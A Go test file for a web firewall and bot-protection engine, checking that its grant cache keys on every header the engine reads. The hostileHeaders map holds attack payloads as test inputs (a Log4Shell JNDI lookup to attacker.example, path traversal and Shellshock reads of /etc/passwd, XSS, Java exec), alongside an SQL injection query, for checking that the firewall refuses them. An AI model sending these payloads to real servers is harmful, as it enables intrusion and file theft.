package engine_test

import (
	"net/http"
	"net/netip"
	"os"
	"regexp"
	"sort"
	"strings"
	"testing"
	"time"

	botsnapshot "github.com/palisadehq/palisade/internal/botdata/snapshot"
	"github.com/palisadehq/palisade/internal/engine"
)

// notPassed are header names the engine or the firewall's prefilter reads
// that never reach Palisade from the visitor through the shipped nginx
// configuration, cache or not: hop-by-hop headers nginx's proxy drops or
// replaces, and the names the configuration sets or removes itself.
var notPassed = map[string]bool{
	"Connection": true, "Te": true, "Upgrade": true, "Host": true, "Keep-Alive": true, "Expect": true,
	"X-Real-Ip": true, "X-Forwarded-Proto": true, "X-Forwarded-Host": true,
}

// TestCacheKeyHeadersCoverTheCode reads the engine's code, the protector's
// proxy headers and the website firewall's prefilter: every header name
// they read (r.header("…"), r.Header["…"], the name lists) is in
// engine.CacheKeyHeaders or one nginx never passes. A new check on a
// header that is not in the key fails here.
func TestCacheKeyHeadersCoverTheCode(t *testing.T) {
	read := func(path string) string {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	names := map[string]string{} // name -> where
	add := func(where string, re *regexp.Regexp, text string) int {
		n := 0
		for _, m := range re.FindAllStringSubmatch(text, -1) {
			names[http.CanonicalHeaderKey(m[1])] = where
			n++
		}
		return n
	}
	files, _ := os.ReadDir(".")
	byName := regexp.MustCompile(`(?:header|Header\.Get|Header)[\(\[]"([A-Za-z0-9-]+)"[\)\]]`)
	listed := regexp.MustCompile(`\{"([A-Za-z0-9-]+)", "[^"]*\((?:[A-Za-z0-9-]+)\)"\}`)
	for _, f := range files {
		if !strings.HasSuffix(f.Name(), ".go") || strings.HasSuffix(f.Name(), "_test.go") || f.Name() == "cachekey.go" {
			continue
		}
		s := read(f.Name())
		add("engine/"+f.Name(), byName, s)
		add("engine/"+f.Name()+" (scanner headers)", listed, s)
		if i := strings.Index(s, "var behindProxy = []string{"); i >= 0 {
			line := s[i : i+strings.Index(s[i:], "\n")]
			if add("engine/"+f.Name()+" (behindProxy)", regexp.MustCompile(`"([A-Za-z0-9-]+)"`), line) < 5 {
				t.Fatalf("behindProxy is not where this test reads it")
			}
		}
	}
	prot := read("../protect/request.go")
	i := strings.Index(prot, "var proxyHeaders = []string{")
	if i < 0 {
		t.Fatal("protect.proxyHeaders is not where this test reads it")
	}
	add("protect proxyHeaders", regexp.MustCompile(`"([A-Za-z0-9-]+)"`), prot[i:i+strings.Index(prot[i:], "}")])
	add("protect/request.go", byName, prot)
	pf := read("../waf/prefilter.go")
	i, j := strings.Index(pf, "func prefilterClean("), strings.Index(pf, "// pfAddrList reports")
	if i < 0 || j < i {
		t.Fatal("waf.prefilterClean is not where this test reads it")
	}
	if add("waf prefilterClean", regexp.MustCompile(`"([A-Z][A-Za-z0-9]*(?:-[A-Za-z0-9]+)*)"[,:]`), regexp.MustCompile(`(?m)^\t+case .*$`).ReplaceAllStringFunc(pf[i:j], func(s string) string {
		if strings.Contains(s, `"GET"`) || strings.Contains(s, "HTTP/") {
			return ""
		}
		return s
	})) < 20 {
		t.Fatal("read too few names from waf.prefilterClean")
	}
	for _, must := range []string{"X-Wipp", "Acunetix-Aspect", "Sec-Fetch-Dest", "Authorization", "Signature-Input", "Via", "Cookie", "If-None-Match", "Cf-Connecting-Ip"} {
		if _, ok := names[must]; !ok {
			t.Errorf("the scan found no %s: it no longer reads the code it should", must)
		}
	}
	for name, where := range names {
		if !engine.InCacheKey(name) && !notPassed[name] && !strings.HasPrefix(name, "X-Original-") && !strings.HasPrefix(name, "X-Palisade-") {
			t.Errorf("%s reads header %s, which is not in engine.CacheKeyHeaders: a cached grant would not vary with it", where, name)
		}
	}
	seen := map[string]bool{}
	for _, h := range engine.CacheKeyHeaders {
		if h != http.CanonicalHeaderKey(h) || seen[h] {
			t.Errorf("CacheKeyHeaders: %q is not canonical or repeats", h)
		}
		seen[h] = true
	}
	t.Logf("%d header names read by the code, %d in the key", len(names), len(engine.CacheKeyHeaders))
}

func keys(m map[string]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// keyOnly is r as the shipped nginx configuration passes it to Palisade
// with the cache on: the key's headers, each once, and no others.
func keyOnly(r engine.Request) engine.Request {
	h := http.Header{}
	for name, vs := range r.Header {
		if engine.InCacheKey(name) && len(vs) > 0 {
			h[name] = vs[:1]
		}
	}
	r.Header = h
	return r
}

func sameVerdict(a, b engine.Verdict) bool {
	return a.Action == b.Action && a.Reason == b.Reason && a.Source == b.Source && a.Category == b.Category && a.Detail == b.Detail
}

// hostileHeaders are headers outside the key an attacker adds to a request
// whose key has a cached grant: the website firewall refuses each (it
// reads every header), so none may be answered from the cache.
var hostileHeaders = map[string]string{
	"X-Api-Version": "${jndi:ldap://attacker.example/a}",
	"X-Custom-Path": "../../../../etc/passwd",
	"X-Shellshock":  "() { :; }; /bin/cat /etc/passwd",
	"X-Debug":       "<script>alert(1)</script>",
	"X-Java":        "java.lang.Runtime.getRuntime().exec('id')",
}

// TestGrantCacheCorpus proves the key complete on the labelled traffic
// corpus (testdata/corpus.txt, real header sets), with the website
// firewall at its default and a path rule: for every request, as the
// cache-on configuration passes it (keyOnly), whose grant is cacheable,
//   - adding any header outside the key (every name the corpus has, with
//     its values, and scanners' ones) leaves the engine's own verdict as
//     it was, or changes it only through the website firewall (which reads
//     every header), and GrantCache never offers such a request;
//   - hostile extra headers are refused by the firewall and never
//     offered;
//   - a repeated key header is never offered;
//
// and a request carrying more than the key is never offered as it is.
func TestGrantCacheCorpus(t *testing.T) {
	b, err := os.ReadFile(corpusFile)
	if err != nil {
		t.Fatal(err)
	}
	c, err := parseCorpus(string(b))
	if err != nil {
		t.Fatal(err)
	}
	ranges, err := engine.LoadBotRanges("")
	if err != nil {
		t.Fatal(err)
	}
	sigs, err := engine.LoadSignatures()
	if err != nil {
		t.Fatal(err)
	}
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	e := engine.New(engine.NewClassifier(sigs, ranges, engine.NewRDNSVerifier(zoneResolver{ptr: c.ptr, a: c.a})), func() time.Time { return now })
	st := corpusSettings()
	st.Rules = []engine.Rule{{Name: "Admin", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "starts_with", Value: "/wp-admin/install"}}}}
	if errs := e.Load([]engine.Site{{ID: 1, PartnerID: 1, Domain: corpusDomain, Status: "online", Settings: st}}, nil); len(errs) > 0 {
		t.Fatal(errs[0].Err)
	}
	p := e.ByDomain(corpusDomain)
	if p.GrantCacheBlocker() != "" {
		t.Fatalf("the corpus website's grants are not cacheable: %s", p.GrantCacheBlocker())
	}
	// Every header name outside the key the corpus carries, with a value
	// it was sent with.
	extra := map[string]string{}
	for _, l := range c.lines {
		for name, vs := range l.req.Header {
			if !engine.InCacheKey(name) && !notPassed[name] && len(vs) > 0 {
				extra[name] = vs[0]
			}
		}
	}
	for _, n := range []string{"X-Scan-Id", "X-Forwarded-Server", "X-Request-Id", "X-Csrf-Token", "Accept-Charset", "X-Att-Deviceid", "X-Wap-Profile", "Save-Data", "Device-Memory", "Viewport-Width", "Sec-Ch-Ua-Full-Version-List", "Sec-Ch-Ua-Arch", "Sec-Ch-Ua-Model"} {
		if _, ok := extra[n]; !ok {
			extra[n] = "1"
		}
	}
	// Reverse DNS answers in the background: decide every line until no
	// lookup is pending (as runCorpus does), so that verdicts compare.
	for try := 0; ; try++ {
		pending := 0
		for _, l := range c.lines {
			r := l.req
			if v := e.Decide(p, &r); v.Category == engine.EmulatedHumans && strings.HasPrefix(v.Detail, "unverified ") {
				pending++
			}
		}
		if pending == 0 {
			break
		}
		if try == 200 {
			t.Fatalf("%d reverse-DNS lookups still pending", pending)
		}
		time.Sleep(10 * time.Millisecond)
	}
	var offered, cacheable, mutations, firewallOnly, lostInCacheMode int
	for _, l := range c.lines {
		if l.sign != nil {
			continue
		}
		full := l.req
		full.Header = l.req.Header.Clone()
		vFull := e.Decide(p, &full)
		outside := false
		for name := range full.Header {
			outside = outside || !engine.InCacheKey(name)
		}
		if d := e.GrantCache(p, &full, &vFull); d > 0 {
			offered++
			if outside {
				t.Errorf("line %d (%s): a request with headers outside the key was offered for %v", l.no, l.raw, d)
			}
		}
		r := keyOnly(l.req)
		v := e.Decide(p, &r)
		if !sameVerdict(v, vFull) {
			// What nginx's cache mode changes: the engine's by-name
			// reads are all in the key, so only the firewall may differ.
			if vFull.Source != engine.SourceWAF && vFull.WAF == nil {
				t.Errorf("line %d (%s): without the headers outside the key the verdict is %v, with them %v (not the firewall): one of them belongs in the key", l.no, l.raw, v, vFull)
			}
			lostInCacheMode++
		}
		if e.GrantCache(p, &r, &v) == 0 {
			continue
		}
		cacheable++
		for name, val := range extra {
			m := r
			m.Header = r.Header.Clone()
			m.Header[name] = []string{val}
			mv := e.Decide(p, &m)
			mutations++
			if e.GrantCache(p, &m, &mv) != 0 {
				t.Errorf("line %d: with %s (outside the key) added, the grant is still offered", l.no, name)
			}
			if !sameVerdict(mv, v) {
				if mv.Source != engine.SourceWAF && mv.WAF == nil {
					t.Errorf("line %d (%s): adding %s: %q changes the verdict %v to %v: the engine reads it, so it belongs in engine.CacheKeyHeaders", l.no, l.raw, name, val, v, mv)
				}
				firewallOnly++
			}
		}
		for name, val := range hostileHeaders {
			m := r
			m.Header = r.Header.Clone()
			m.Header[name] = []string{val}
			mv := e.Decide(p, &m)
			if mv.Action != engine.Deny || mv.Source != engine.SourceWAF {
				t.Errorf("line %d: the firewall does not refuse %s: %s: %v", l.no, name, val, mv)
			}
			if e.GrantCache(p, &m, &mv) != 0 {
				t.Errorf("line %d: a request with %s offered", l.no, name)
			}
		}
		for name, vs := range r.Header {
			m := r
			m.Header = r.Header.Clone()
			m.Header[name] = []string{vs[0], vs[0]}
			mv := e.Decide(p, &m)
			if e.GrantCache(p, &m, &mv) != 0 {
				t.Errorf("line %d: %s sent twice, offered", l.no, name)
			}
		}
	}
	t.Logf("%d corpus requests: %d cacheable grants as nginx's cache mode sends them (%d mutations: %d changed by the firewall only, never offered); %d judged otherwise by the firewall without the headers outside the key; %d offered as sent in full",
		len(c.lines), cacheable, mutations, firewallOnly, lostInCacheMode, offered)
	if cacheable < 100 {
		t.Errorf("only %d of the corpus's requests have a cacheable grant: the browsers' should", cacheable)
	}
}

type clearAll struct{}

func (clearAll) Cleared(int64, *engine.Request) bool { return true }

// TestGrantCachePolicies: which verdicts and websites may be cached.
func TestGrantCachePolicies(t *testing.T) {
	sigs, err := engine.LoadSignatures()
	if err != nil {
		t.Fatal(err)
	}
	ranges, err := engine.LoadBotRanges("")
	if err != nil {
		t.Fatal(err)
	}
	e := engine.New(engine.NewClassifier(sigs, ranges, nil), nil)
	e.SetClearance(clearAll{})
	chrome := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	browser := func(mods ...func(*engine.Request)) *engine.Request {
		r := &engine.Request{IP: netip.MustParseAddr("198.51.100.7"), Method: "GET", Host: "shop.example.com", Path: "/page", Proto: "HTTP/1.1", UserAgent: chrome,
			Header: http.Header{"User-Agent": {chrome}, "Accept": {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}, "Accept-Language": {"en-GB,en;q=0.9"},
				"Accept-Encoding": {"gzip, deflate, br"}, "Sec-Fetch-Site": {"none"}, "Sec-Fetch-Mode": {"navigate"}, "Sec-Fetch-Dest": {"document"}, "Upgrade-Insecure-Requests": {"1"},
				"X-Original-Uri": {"/page"}, "X-Real-Ip": {"198.51.100.7"}},
			IntegrationHeaders: []string{"X-Original-Uri", "X-Real-Ip"}}
		for _, m := range mods {
			m(r)
		}
		return r
	}
	ua := func(s string) func(*engine.Request) {
		return func(r *engine.Request) { r.UserAgent = s; r.Header["User-Agent"] = []string{s} }
	}
	site := func(id int64, st engine.Settings) *engine.Policy {
		t.Helper()
		return loadSite(t, e, id, st)
	}
	deny := engine.Rule{Name: "Admin", Action: "deny", Conditions: []engine.Condition{{Field: "path", Op: "starts_with", Value: "/admin"}}}
	plain := site(1, engine.Settings{Rules: []engine.Rule{deny}})
	limited := site(2, engine.Settings{RateLimits: []engine.RateLimit{{Name: "all", Requests: 1000, Period: "1m"}}})
	headerRule := site(3, engine.Settings{Rules: []engine.Rule{{Name: "Key", Action: "deny", Conditions: []engine.Condition{{Field: "header", Header: "X-Api-Key", Op: "is", Value: "leaked"}}}}})
	keyHeaderRule := site(4, engine.Settings{Rules: []engine.Rule{{Name: "Ajax", Action: "challenge", Conditions: []engine.Condition{{Field: "header", Header: "x-requested-with", Op: "is", Value: "evil"}}}}})
	celRule := site(5, engine.Settings{Rules: []engine.Rule{{Name: "Expr", Action: "deny", Expression: `"x-api-key" in headers`}}})
	monitor := site(6, engine.Settings{Mode: "monitor"})
	allow := site(7, engine.Settings{Allow: []string{"198.51.100.7"}})
	humansChallenged := site(8, engine.Settings{Categories: map[string]string{"humans": "challenge"}})
	grantRule := site(9, engine.Settings{Rules: []engine.Rule{{Name: "Team", Action: "grant", Conditions: []engine.Condition{{Field: "ip", Op: "is", Value: "198.51.100.7"}}}}})
	detect := site(10, engine.Settings{WAF: engine.WAFSettings{Mode: "detect"}})

	for _, c := range []struct {
		name string
		p    *engine.Policy
		r    *engine.Request
		want time.Duration
	}{
		{"a browser", plain, browser(), 5 * time.Second},
		{"a browser, HEAD", plain, browser(func(r *engine.Request) { r.Method = "HEAD" }), 5 * time.Second},
		{"a denied path", plain, browser(func(r *engine.Request) { r.Path = "/admin/x" }), 0},
		{"curl (challenged)", plain, browser(ua("curl/8.5.0")), 0},
		{"sqlmap (denied)", plain, browser(ua("sqlmap/1.7.2#stable")), 0},
		{"an SQL injection (the firewall)", plain, browser(func(r *engine.Request) { r.Query = "id=1'%20OR%20'1'='1" }), 0},
		{"a POST", plain, browser(func(r *engine.Request) { r.Method = "POST" }), 0},
		{"a body", plain, browser(func(r *engine.Request) { r.Body = []byte("a=1") }), 0},
		{"a header outside the key", plain, browser(func(r *engine.Request) { r.Header["X-Request-Id"] = []string{"abc"} }), 0},
		{"a key header twice", plain, browser(func(r *engine.Request) { r.Header["Accept-Language"] = []string{"en", "de"} }), 0},
		{"a rate-limited website", limited, browser(), 0},
		{"a rule on a header outside the key", headerRule, browser(), 0},
		{"a rule on a header in the key", keyHeaderRule, browser(), 5 * time.Second},
		{"an expression over headers", celRule, browser(), 0},
		{"monitor mode", monitor, browser(), 0},
		{"the allow list", allow, browser(ua("curl/8.5.0")), 5 * time.Second},
		{"a rule's grant", grantRule, browser(ua("curl/8.5.0")), 5 * time.Second},
		{"a clearance", humansChallenged, browser(func(r *engine.Request) { r.Clearance = "ok" }), 0},
		{"a clearance lifting curl's challenge", plain, browser(ua("curl/8.5.0"), func(r *engine.Request) { r.Clearance = "ok" }), 0},
		{"a verified search engine", plain, browser(ua("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), func(r *engine.Request) { r.IP = netip.MustParseAddr(firstPrefix(t, "googlebot")) }), 0},
		{"robots.txt for a bot (built-in)", plain, browser(ua("curl/8.5.0"), func(r *engine.Request) { r.Path = "/robots.txt" }), 0},
		{"firewall detect mode, a finding", detect, browser(func(r *engine.Request) { r.Query = "id=1'%20OR%20'1'='1" }), 0},
	} {
		v := e.Decide(c.p, c.r)
		if got := e.GrantCache(c.p, c.r, &v); got != c.want {
			t.Errorf("%s: %v (%v), want %v", c.name, got, v, c.want)
		}
	}
	if b := limited.GrantCacheBlocker(); b != "rate limits" {
		t.Errorf("blocker of a rate-limited site: %q", b)
	}
	r := browser()
	v := e.Decide(plain, r)
	if n := testing.AllocsPerRun(100, func() { e.GrantCache(plain, r, &v) }); n != 0 {
		t.Errorf("GrantCache allocates %v times", n)
	}
	e.SetGrantCache(0)
	if d := e.GrantCache(plain, r, &v); d != 0 {
		t.Errorf("lifetime 0: %v", d)
	}
	e.SetGrantCache(90 * time.Second)
	if d := e.GrantCache(plain, r, &v); d != engine.MaxGrantCache {
		t.Errorf("lifetime 90s: %v, want the bound %v", d, engine.MaxGrantCache)
	}
	e.SetGrantCache(1500 * time.Millisecond)
	if d := e.GrantCache(plain, r, &v); d != time.Second {
		t.Errorf("lifetime 1.5s: %v, want whole seconds", d)
	}
}

func loadSite(t *testing.T, e *engine.Engine, id int64, st engine.Settings) *engine.Policy {
	t.Helper()
	sites = append(sites, engine.Site{ID: id, PartnerID: 1, Domain: "site" + string(rune('a'+id)) + ".example.com", Status: "online", Settings: st})
	if errs := e.Load(sites, nil); len(errs) > 0 {
		t.Fatal(errs[0].Err)
	}
	return e.ByDomain(sites[len(sites)-1].Domain)
}

var sites []engine.Site

func firstPrefix(t *testing.T, name string) string {
	t.Helper()
	l, ok := botsnapshot.Get(name)
	if !ok {
		t.Fatalf("the shipped snapshot has no list %q", name)
	}
	for _, p := range l.Prefixes {
		if p.Addr().Is4() {
			return p.Addr().Next().String()
		}
	}
	t.Fatalf("%s has no IPv4 prefix", name)
	return ""
}
